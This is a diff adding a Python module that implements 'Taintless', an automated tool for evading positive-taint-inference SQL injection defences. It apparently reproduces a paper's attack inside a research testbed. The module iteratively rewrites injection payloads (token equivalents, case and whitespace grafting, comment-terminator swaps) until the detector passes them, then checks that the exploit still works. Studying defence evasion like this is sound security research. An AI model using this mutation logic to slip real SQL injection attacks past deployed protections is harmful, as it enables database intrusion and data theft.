@@ -1,0 +1,190 @@
+"""Taintless: automated PTI evasion (paper Section V-A, reference [1]).
+
+    "Taintless replaces certain SQL tokens with their equivalents (e.g.,
+    UNION with UNION ALL, CHAR with string literals), matches the letter
+    case of attack tokens with those available in the application, removes
+    those tokens not found inside the application that can be safely removed
+    from the attack payload, and also matches the type and number of
+    whitespaces with those available in the application."
+
+The implementation is an iterative repair loop.  Each round builds the
+final query (through the target plugin's real transform pipeline), runs the
+PTI analyzer, and picks the first uncovered critical token.  Candidate
+repairs -- case variants harvested from the application's fragments,
+whitespace grafts, documented equivalents, and comment-terminator
+alternatives/removals -- are applied to the payload; a repair is kept only
+if it strictly reduces the number of uncovered tokens.  The loop succeeds
+when PTI deems the query safe, and the harness then re-verifies the mutated
+exploit still functions against the unprotected application.
+
+Whether Taintless succeeds against a given plugin is therefore an emergent
+property of that application's fragment vocabulary, exactly as in the
+paper: payloads needing only tokens present as short fragments (tautologies,
+FROM-free information-leak unions) are adaptable; payloads needing
+``SLEEP``/``IF``/scalar subqueries are not.
+"""
+
+from __future__ import annotations
+
+import re
+from dataclasses import dataclass
+from typing import Callable
+
+from ..pti.fragments import FragmentStore, token_index_key
+from ..pti.inference import PTIAnalyzer, PTIConfig
+from ..sqlparser.tokens import Token, TokenType
+
+__all__ = ["TaintlessResult", "taintless_mutate", "query_builder_for"]
+
+#: Token equivalents Taintless may substitute (paper's examples plus the
+#: standard comparison/logical synonyms).
+_EQUIVALENTS: dict[str, tuple[str, ...]] = {
+    "union": ("UNION ALL", "union all"),
+    "and": ("&&",),
+    "or": ("||",),
+    "=": (" = ", " LIKE ", " like "),
+    "<>": ("!=",),
+    "!=": ("<>",),
+}
+
+#: Alternative trailing-comment terminators to try, in order.
+_COMMENT_ALTERNATIVES = ("#", "-- -", "")
+
+
+@dataclass
+class TaintlessResult:
+    """Outcome of one Taintless run."""
+
+    payload: str | None  # mutated payload, or None when adaptation failed
+    rounds: int
+    uncovered_history: list[list[str]]
+
+    @property
+    def succeeded(self) -> bool:
+        return self.payload is not None
+
+
+def query_builder_for(app, defn) -> Callable[[str], str]:
+    """Build ``payload -> final query`` through the *real* plugin pipeline.
+
+    Sends the payload as an actual request to ``app`` (which must be
+    unprotected) and returns the last query the plugin issued, exactly as an
+    attacker proxies their probe through the application.
+    """
+    from ..testbed.exploits import make_request  # local import: avoid cycle
+
+    def build(payload: str) -> str:
+        before = len(app.db.query_log)
+        app.handle(make_request(defn, payload))
+        issued = app.db.query_log[before:]
+        if not issued:
+            raise RuntimeError(f"plugin {defn.name} issued no query")
+        return issued[-1]
+
+    return build
+
+
+def _case_and_whitespace_candidates(
+    payload: str, token: Token, store: FragmentStore
+) -> list[str]:
+    """Payload rewrites matching a fragment's letter case / whitespace."""
+    text = token.text
+    candidates: list[str] = []
+    pattern = re.compile(re.escape(text), re.IGNORECASE)
+    for fragment in store.candidates_for(token_index_key(token)):
+        for match in pattern.finditer(fragment):
+            variant = match.group(0)
+            if variant != text:
+                candidates.append(payload.replace(text, variant))
+        # Whitespace matching: when the fragment is the token wrapped in
+        # whitespace (" OR ", " = "), graft that exact spacing around every
+        # occurrence so the fragment appears verbatim in the query.
+        stripped = fragment.strip()
+        if stripped and stripped.lower() == text.lower() and fragment != stripped:
+            candidates.append(payload.replace(text, f" {stripped} "))
+    return candidates
+
+
+def _comment_candidates(payload: str, token: Token) -> list[str]:
+    """Swap or drop an uncoverable trailing comment terminator."""
+    candidates: list[str] = []
+    marker = "#" if token.text.startswith("#") else (
+        "--" if token.text.startswith("--") else "/*"
+    )
+    idx = payload.rfind(marker)
+    if idx < 0:
+        return candidates
+    head = payload[:idx].rstrip()
+    for alternative in _COMMENT_ALTERNATIVES:
+        replacement = f"{head}{alternative}" if alternative else head
+        if replacement != payload:
+            candidates.append(replacement)
+    return candidates
+
+
+def _equivalent_candidates(payload: str, token: Token) -> list[str]:
+    candidates: list[str] = []
+    for equivalent in _EQUIVALENTS.get(token.text.lower(), ()):
+        rewritten = payload.replace(token.text, equivalent)
+        if rewritten != payload:
+            candidates.append(rewritten)
+    return candidates
+
+
+def taintless_mutate(
+    payload: str,
+    build_query: Callable[[str], str],
+    store: FragmentStore,
+    max_rounds: int = 10,
+) -> TaintlessResult:
+    """Adapt ``payload`` until PTI over ``store`` deems its query safe.
+
+    Returns a failed :class:`TaintlessResult` when no candidate repair
+    reduces the uncovered-token count (the plugin's vocabulary does not
+    support the payload).
+    """
+    analyzer = PTIAnalyzer(store, PTIConfig(use_mru=False))
+
+    def uncovered(p: str) -> list[Token]:
+        try:
+            query = build_query(p)
+        except Exception:
+            return [Token(TokenType.OPERATOR, "<build-failed>", 0, 0)]
+        result = analyzer.analyze(query)
+        return [
+            Token(TokenType.COMMENT, d.token_text, d.token_start, d.token_end)
+            if d.token_text.startswith(("#", "--", "/*"))
+            else Token(TokenType.OPERATOR, d.token_text, d.token_start, d.token_end)
+            for d in result.detections
+        ]
+
+    current = payload
+    history: list[list[str]] = []
+    for round_no in range(1, max_rounds + 1):
+        missing = uncovered(current)
+        history.append([t.text for t in missing])
+        if not missing:
+            return TaintlessResult(current, round_no, history)
+        progressed = False
+        for token in missing:
+            if token.text == "<build-failed>":
+                break
+            candidates: list[str] = []
+            candidates.extend(_case_and_whitespace_candidates(current, token, store))
+            candidates.extend(_equivalent_candidates(current, token))
+            if token.text.startswith(("#", "--", "/*")):
+                candidates.extend(_comment_candidates(current, token))
+            for candidate in candidates:
+                if len(uncovered(candidate)) < len(missing):
+                    current = candidate
+                    progressed = True
+                    break
+            if progressed:
+                break
+        if not progressed:
+            return TaintlessResult(None, round_no, history)
+    final_missing = uncovered(current)
+    history.append([t.text for t in final_missing])
+    if final_missing:
+        return TaintlessResult(None, max_rounds, history)
+    return TaintlessResult(current, max_rounds, history)
